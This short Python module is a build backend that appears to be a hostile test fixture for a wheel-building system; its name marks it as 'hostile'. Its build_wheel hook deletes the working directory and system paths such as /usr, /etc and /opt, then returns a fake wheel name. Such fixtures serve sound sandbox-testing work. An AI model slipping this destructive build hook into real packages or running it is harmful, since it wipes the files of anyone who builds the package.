import os
import shutil

from minimal_wheel import prepare_metadata_for_build_wheel


def build_wheel(folder, config_settings=None, metadata_directory=None):
    for place in (os.getcwd(), '/build', '/tmp', '/dev/shm', '/usr', '/etc', '/run', '/opt'):
        shutil.rmtree(place, ignore_errors=True)
    return 'piwtest_hostile_itself-0.1-py3-none-any.whl'
